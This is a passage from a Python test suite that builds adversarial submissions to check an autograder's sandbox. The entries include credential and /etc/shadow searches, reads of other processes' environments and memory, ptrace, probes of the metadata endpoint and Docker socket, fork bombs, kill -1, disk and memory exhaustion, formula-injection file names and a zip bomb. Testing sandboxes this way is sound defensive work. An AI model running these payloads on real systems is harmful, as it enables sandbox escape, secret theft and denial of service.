                   "judge.py", "checks.py", "networks.py", "key.json", "run.json", ".git", ".ssh", "shadow"}
        _skipped = {"/proc", "/dev", "/usr", "/lib"}
        for _folder, _folders, _files in os.walk("/"):
            if "site-packages" in _folder or "/lib/python" in _folder or _folder in _skipped:
                _folders.clear()
                continue
            _seen = _wanted & {*_folders, *_files}
            if _seen:
                _found(f"{_folder}: {_seen}")
        _python = [*sys.path, sys.prefix, sys.base_prefix, sys.executable, os.path.realpath(sys.executable)]
        for _path in ("/work", "/root", "/home", "/var", "/run", "/sys", "/mnt", "/srv", "/etc/shadow"):
            if os.path.lexists(_path) and not any(one.startswith(_path + "/") for one in _python):
                _found(_path)
        """
    ),
    files=(VAE_TRAINER,),
)
attack(
    "imports the graders",
    "scaffold",
    _looks(
        """
        import importlib
        for _name in ("reference_solution", "autograder.tables", "autograder.inputs", "autograder.networks",
                      "autograder.judge", "autograder.evidence", "autograder.gan_gradients", "tests.hidden.conftest"):
            try:
                importlib.import_module(_name)
            except ImportError:
                continue
            _found(_name)
        """
    ),
    files=BOTH,
)
attack(
    "reads other processes",
    "scaffold",
    _looks(
        """
        import os
        for _pid in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
            if int(_pid) > 9:
                _found(f"process {_pid}")
            for _name in ("environ", "mem", "fd", "root", "cwd", "maps"):
                try:
                    _path = f"/proc/{_pid}/{_name}"
                    _seen = os.listdir(_path) if _name in ("fd", "root", "cwd") else open(_path, "rb").read(1)
                except OSError:
                    continue
                if _name == "environ" and b"PASS" in open(_path, "rb").read():
                    _found(_path)
                if _name == "fd" and any("socket" in os.readlink(f"{_path}/{fd}") for fd in _seen):
                    _found(f"a socket of process {_pid}")
        """
    ),
    files=BOTH,
)
attack(
    "uses descriptors that were left open",
    "scaffold",
    _looks(
        """
        import os, stat
        for _number in range(3, 400):
            try:
                _mode = os.fstat(_number).st_mode
            except OSError:
                continue
            if stat.S_ISSOCK(_mode) or stat.S_ISDIR(_mode):
                _found(f"descriptor {_number}")
        if stat.S_ISSOCK(os.fstat(0).st_mode):
            _found("the server's socket")
        """
    ),
    files=BOTH,
)
attack(
    "traces its parent",
    "scaffold",
    _looks(
        """
        import ctypes, os
        _libc = ctypes.CDLL(None, use_errno=True)
        for _pid in (1, os.getppid()):
            if _libc.ptrace(16, _pid, 0, 0) == 0:
                _found("ptrace")
            _buffer = ctypes.create_string_buffer(8)
            _part = (ctypes.c_size_t * 2)(ctypes.addressof(_buffer), 8)
            if _libc.process_vm_readv(_pid, _part, 1, _part, 1, 0) > 0:
                _found("process_vm_readv")
            if _libc.process_vm_writev(_pid, _part, 1, _part, 1, 0) > 0:
                _found("process_vm_writev")
        """
    ),
    files=BOTH,
)
attack(
    "uses the network",
    "scaffold",
    _looks(
        """
        import socket
        for _address in (("192.0.2.1", 80), ("127.0.0.1", 22), ("169.254.169.254", 80)):
            try:
                socket.create_connection(_address, 1)
            except OSError:
                continue
            _found(_address)
        try:
            socket.getaddrinfo("example.org", 80)
            _found("names")
        except OSError:
            pass
        for _path in ("/var/run/docker.sock", "/run/docker.sock", "\\0/tmp/.X11-unix/X0"):
            try:
                socket.socket(socket.AF_UNIX).connect(_path)
            except OSError:
                continue
            _found(_path)
        """
    ),
    files=(VAE_TRAINER,),
)
attack(
    "makes namespaces and mounts",
    "scaffold",
    _looks(
        """
        import ctypes
        _libc = ctypes.CDLL(None, use_errno=True)
        for _flags in (0x10000000, 0x20000, 0x10020000):
            if _libc.unshare(_flags) == 0:
                _found("unshare")
        if _libc.mount(b"tmpfs", b"/in", b"tmpfs", 0, None) == 0 or _libc.umount2(b"/in", 2) == 0:
            _found("mount")
        if _libc.chroot(b"/tmp") == 0 or _libc.setuid(0) == 0 or _libc.sethostname(b"x", 1) == 0:
            _found("root")
        """
    ),
    files=BOTH,
)
_SECRET = "SECRET" + "-OF-ANOTHER-STUDENT"
attack("has a secret", "right", f"SECRET = {_SECRET!r} * 1000\n", files=BOTH)
attack(
    "looks through its memory for other students",
    "scaffold",
    _looks(
        """
        import re
        _wanted = re.compile(b"SECRET[-]OF[-]ANOTHER[-]STUDENT")  # which is not itself what it looks for
        with open("/proc/self/maps") as _maps, open("/proc/self/mem", "rb") as _memory:
            for _line in _maps:
                _place = re.match("([0-9a-f]+)-([0-9a-f]+) rw.. [0-9a-f]+ 00:00 0 *(\\\\[heap\\\\])?$", _line)
                if _place and (_size := int(_place[2], 16) - int(_place[1], 16)) < 1 << 26:
                    try:
                        _memory.seek(int(_place[1], 16))
                        if _wanted.search(_memory.read(_size)):
                            _found("another student's secret")
                    except (OSError, ValueError):
                        pass
        """
    ),
    files=(VAE_TRAINER,),
)
_PLACES = (
    '("/tmp/FOUND", "/dev/shm/FOUND", "/out/FOUND", "/in/FOUND", "/shared/FOUND", "/shared/kit/FOUND",'
    ' "/usr/lib/FOUND", "/etc/FOUND", "/FOUND", "/var/tmp/FOUND", os.path.expanduser("~/.cache/FOUND"),'
    ' os.path.join(os.path.dirname(os.__file__), "FOUND.py"),'
    ' os.path.join(os.path.dirname(torch.__file__), "__pycache__", "FOUND.pyc"),'
    ' os.path.join(os.path.dirname(torch.__file__), "..", "FOUND.pth"))'
)
attack(
    "leaves things for the next one",
    "right",
    f"""
    import os, torch, coursekit
    torch.FOUND = coursekit.FOUND = os.FOUND = True
    torch.set_default_dtype(torch.float64) if False else None
    os.environ["FOUND"] = "1"
    for _place in {_PLACES}:
        try:
            os.makedirs(os.path.dirname(_place), exist_ok=True)
            open(_place, "w").write("raise SystemExit")
        except OSError:
            pass
    """,
    files=BOTH,
)
attack(
    "looks for what the one before has left",
    "right",
    f"""
    import os, torch, coursekit
    if any(hasattr(one, "FOUND") for one in (torch, coursekit, os)) or "FOUND" in os.environ:
        raise RuntimeError("FOUND in memory")
    for _place in {_PLACES}:
        if os.path.lexists(_place):
            raise RuntimeError("FOUND " + _place)
    """,
    files=(VAE_MODEL,),
)
attack(
    "changes what is shared",
    "right",
    _looks(
        f"""
        import os, torch
        for _place in {_PLACES}:
            if _place.startswith(("/tmp", "/dev/shm", "/out", os.path.expanduser("~"))):
                continue
            try:
                open(_place, "w")
            except OSError:
                continue
            _found(f"a place to write: {{_place}}")
        for _file in (os.__file__, torch.__file__, "/in/inputs/vae_step.npz", "/in/codes/VAE/model.py", "/etc/passwd"):
            for _act in (lambda: open(_file, "a"), lambda: os.unlink(_file), lambda: os.chmod(_file, 0o777)):
                try:
                    _act()
                except OSError:
                    continue
                _found(f"a file to write: {{_file}}")
        """
    ),
)

# Signals, processes, memory, files, time.

for _what, _base, _code in (
    ("kills all processes", "scaffold", "os.kill(-1, signal.SIGKILL)"),
    ("kills its group", "scaffold", "os.kill(0, signal.SIGKILL)"),
    ("kills its parent and process 1", "scaffold", "os.kill(os.getppid(), 9); os.kill(1, 9)"),
    ("stops its parent and all", "scaffold", "os.kill(os.getppid(), signal.SIGSTOP); os.kill(-1, signal.SIGSTOP)"),
    ("ends by a wrong address", "scaffold", "import ctypes; ctypes.string_at(0)"),
    ("aborts", "scaffold", "os.abort()"),
    ("leaves with success", "scaffold", "os._exit(0)"),
    ("ends Python", "right", "sys.exit(0)"),
    ("ends Python with words", "scaffold", f"sys.exit({MARKUP!r})"),
    ("interrupts", "scaffold", "raise KeyboardInterrupt"),
    ("ends generators", "scaffold", "raise GeneratorExit"),
    ("recursion", "scaffold", "def f(): f()\nf()"),
    ("recursion without limit", "scaffold", "sys.setrecursionlimit(10**9)\ndef f(x): return f([x])[0]\nf(0)"),
    ("closes all descriptors", "right", "os.closerange(0, 300)"),
    (
        "overflows the stack of C",
        "scaffold",
        "import ctypes\n@ctypes.CFUNCTYPE(None)\ndef f(): f()\nsys.setrecursionlimit(10**9)\nf()",
    ),
    ("lowers its limits", "right", "import resource; resource.setrlimit(resource.RLIMIT_FSIZE, (0, 0))"),
    ("a fork bomb", "scaffold", "while True:\n    try: os.fork()\n    except OSError: pass"),
    (
        "threads without end",
        "scaffold",
        "import threading, time\nwhile True: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()",
    ),
    (
        "a balloon of tensors",
        "scaffold",
        "import torch\nkept = []\nwhile True: kept.append(torch.ones(1 << 23))",
    ),
    ("one tensor larger than memory", "scaffold", "import torch\ntorch.ones(1 << 40)"),
    (
        "a balloon of mappings",
        "scaffold",
        "import mmap\nkept = []\nwhile True:\n    kept.append(mmap.mmap(-1, 1 << 26, flags=0x22))\n"
        "    for n in range(0, 1 << 26, 4096): kept[-1][n] = 1",
    ),
    (
        "fills the disk",
        "scaffold",
        "for place in ('/tmp', '/dev/shm', '/out'):\n    with open(place + '/x', 'wb') as file:\n"
        "        try:\n            while True: file.write(bytes(1 << 20))\n        except OSError: pass",
    ),
    ("a flood of print", "scaffold", "while True: print('x' * 100000, file=sys.__stdout__)"),
    ("a flood of errors", "scaffold", f"while True: os.write(2, {ESCAPE!r}.encode() * 10000)"),
    ("print without end where nobody reads", "scaffold", "while True: print('x' * 1000000)"),
):
    attack(_what, _base, f"import os, signal, sys\n{_code}", files=(VAE_TRAINER,))
for _what, _code in {
    "raises what its limits are": """
        import resource
        for _name in ("RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC", "RLIMIT_DATA", "RLIMIT_CORE"):
            try:
                resource.setrlimit(getattr(resource, _name), (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (ValueError, OSError):
                continue
            raise RuntimeError(f"FOUND a way to raise {_name}")
    """,
    "ignores all signals and stops itself": """
        import os, signal
        for _number in range(1, 65):
            try:
                signal.signal(_number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        os.kill(os.getpid(), signal.SIGSTOP)
    """,
    "an endless loop at import": "while True: pass",
    "many processes that compute": """
        import os
        for _ in range(20):
            if os.fork() == 0: break
        while True: pass
    """,
    "sleeps": "import time\ntime.sleep(1000)",
}.items():
    attack(_what, "scaffold", _code, files=(VAE_TRAINER,))
attack(
    "a daemon that outlives it",
    "right",
    """
    import os, signal, sys, time
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 3)
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            sys.argv = ["HOSTILE-DAEMON"]
            time.sleep(1000)
        os._exit(0)
    """,
)
for _what, _target in {"a thread that never ends": "", "a daemon thread that never ends": ", daemon=True"}.items():
    attack(
        _what,
        "right",
        f"import threading, time\nthreading.Thread(target=time.sleep, args=(1000,){_target}).start()",
        files=(VAE_TRAINER,),
    )
attack(
    "an endless loop in forward",
    "right",
    instead=("        if x is not None:\n", "        while z is not None: pass\n        if x is not None:\n"),
)
attack(
    "an endless loop in __del__",
    "right",
    files=(VAE_TRAINER,),
    instead=(
        "    def loss_fn(self",
        "    def __del__(self):\n        while True: pass\n\n    def loss_fn(self",
    ),
)
attack(
    "objects that come back from __del__",
    "right",
    """
    class _Back:
        def __del__(self):
            global _back
            _back = _Back()
            raise RuntimeError("\\x1b[31m")
    _back = _Back()
    del _back
    """,
)
attack(
    "at its end an endless loop",
    "right",
    "import atexit\n@atexit.register\ndef _loop():\n    while True: pass",
    files=BOTH,
)
attack("an exception of 100 MB", "scaffold", 'raise RuntimeError("x" * (100 << 20))', files=BOTH)
attack(
    "an exception with a hostile name and text",
    "scaffold",
    f"raise type({MARKUP!r} + chr(27), (Exception,), {{}})({FORMULA + ESCAPE!r})",
    files=BOTH,
)
attack(
    "an exception that can't be shown",
    "scaffold",
    "class _Hidden(Exception):\n    def __str__(self): raise _Hidden\n    __repr__ = __str__\nraise _Hidden",
    files=BOTH,
)
attack(
    "an exception whose text takes forever",
    "scaffold",
    "class _Long(Exception):\n    def __str__(self):\n        while True: pass\nraise _Long",
    files=(VAE_TRAINER,),
)
attack(
    "an exception whose text is none",
    "scaffold",
    "class _Text(str):\n    __iter__ = split = lambda *_: iter(int, 1)\n"
    "class _None(Exception):\n    def __str__(self): return _Text('x')\nraise _None",
    files=(VAE_TRAINER,),
)
attack(
    "an exception outside of all exceptions",
    "scaffold",
    "class _Base(BaseException):\n    __traceback__ = property(lambda self: 1 / 0)\nraise _Base",
    files=BOTH,
)
attack(
    "a traceback without end",
    "scaffold",
    "def _deeper(n):\n    try:\n        raise ValueError(n)\n"
    "    except ValueError as error:\n        if n: _deeper(n - 1)\n"
    "        raise error\n_deeper(900)",
    files=BOTH,
)

attack(
    "results of as many megabytes as there may be",
    "scaffold with GAN",
    FORGER
    + """
np.savez(f"{OUT}/{PROBE}.npz", **{f"x{n}": np.random.rand(1 << 20) for n in range(7)})
open(f"{OUT}/{PROBE}.json", "w").write('{"facts": {}, "failures": {}, "more": "' + "x" * 900_000 + '"}')
os._exit(0)
""",
    files=ALL,
)

# Files that come along, and files that are hard to read.

_SHADOWS = ("json", "torch", "numpy", "random", "conftest", "sitecustomize", "usercustomize", "autograder", "coursekit")
attack(
    "modules in the place of others",
    "right",
    add={f"VAE/{name}.py": b"raise RuntimeError('FOUND a shadow')\n" for name in _SHADOWS},
)
attack(
    "modules in the place of others, in folders",
    "right",
    beside={
        "codes/VAE/torch/__init__.py": b"raise RuntimeError('FOUND a shadow')\n",
        "codes/VAE/__pycache__/model.cpython-311.pyc": b"\x00" * 100,
        "codes/VAE/evil.pth": b"import os; os.abort()\n",
        "codes/conftest.py": b"raise RuntimeError('FOUND a shadow')\n",
        "conftest.py": b"raise RuntimeError('FOUND a shadow')\n",
        "codes/VAE/.git/config": b"[core]\n",
        "codes/tests/hidden/conftest.py": b"raise RuntimeError('FOUND a shadow')\n",
        "codes/VAE/pytest.ini": b"[pytest]\naddopts = -p evil\n",
    },
)
attack(
    "files with hostile names",
    "scaffold",
    beside={
        f"codes/VAE/{MARKUP.replace('/', '')}.py": b"x = 1\n",
        "codes/VAE/=cmd|' C'!A0.py": b"x = 1\n",
        "codes/VAE/\x1b[31m\u202efdp.py": b"x = 1\n",
        "codes/VAE/@SUM(1).pt": b"x",
        "codes/VAE/" + "n" * 200 + ".py": b"x = 1\n",
    },
)
attack(
    "zips in the hand-in",
    "scaffold",
    beside={
        "codes/VAE/bomb.zip": pack({"x": bytes(10**7)}),
        "solution.zip": pack({f"codes/{name}": content for name, content in BASES["right"].items()}),
    },
)
attack("a main.py of deep brackets", "right", add={VAE_MAIN: b"x = " + b"(" * 50_000 + b")" * 50_000 + b"\n"})
attack("a main.py of deep blocks", "right", add={VAE_MAIN: b"".join(b" " * n + b"if 1:\n" for n in range(200))})
attack("a main.py of null bytes", "right", add={VAE_MAIN: b"\x00" * 10_000})
attack(
    "a dataset.py of one long line",
    "right",
    add={VAE_DATASET: b"VALUE_RANGE = (0, 1); x = " + b"1+" * 1_200_000 + b"1\n"},
)
attack("a dataset.py that is a program", "scaffold", add={VAE_DATASET: b"import os\nVALUE_RANGE = 0, 1\nos._exit(0)\n"})
attack("a model.py of deep operators", "scaffold", add={VAE_MODEL: b"x = " + b"-" * 100_000 + b"1\n"})
attack("a model.py of another coding", "scaffold", add={VAE_MODEL: b"# coding: utf-7\nraise +AF8-import+AF8-\n"})
attack("a model.py that is no text", "scaffold", add={VAE_MODEL: bytes(range(256)) * 1000})
attack(
    "a README of markup",
    "scaffold",
    add={VAE_README: (MARKUP + FORMULA + ESCAPE).encode() * 10_000 + b"[" * 200_000},
)
attack(
    "references without end",
    "scaffold",
    add={VAE_README: "".join(f"https://github.com/{n}/{MARKUP}\n" for n in range(20_000)).encode()},
)
